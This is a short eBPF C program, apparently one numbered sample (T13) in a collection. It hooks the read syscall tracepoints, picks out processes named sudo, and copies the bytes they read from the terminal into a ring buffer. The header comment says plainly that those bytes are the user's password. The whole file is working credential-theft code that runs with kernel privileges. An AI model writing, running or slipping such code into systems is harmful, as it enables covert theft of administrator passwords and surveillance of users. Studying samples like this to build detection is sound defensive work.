// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T13: what sudo reads from its terminal, which is the password.
#include "sample.h"

LICENSE;

struct snoop {
	u32 pid;
	s64 len;
	char data[80];
};
HASH(sudo_buf, u64, u64, 64);
RINGBUF(sudo_out, 1 << 14);

SEC("tp/syscalls/sys_enter_read")
int sudo_enter(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = ctx->args[1];
	char comm[16];

	bpf_get_current_comm(comm, sizeof(comm));
	if (IS(comm, "sudo"))
		bpf_map_update_elem(&sudo_buf, &id, &buf, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_read")
int sudo_exit(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *buf = bpf_map_lookup_elem(&sudo_buf, &id);
	struct snoop *s;

	if (!buf || ctx->ret <= 0)
		return 0;
	s = bpf_ringbuf_reserve(&sudo_out, sizeof(*s), 0);
	if (s) {
		s->pid = tgid();
		s->len = ctx->ret;
		bpf_probe_read_user(s->data, sizeof(s->data), (void *)*buf);
		bpf_ringbuf_submit(s, 0);
	}
	bpf_map_delete_elem(&sudo_buf, &id);
	return 0;
}
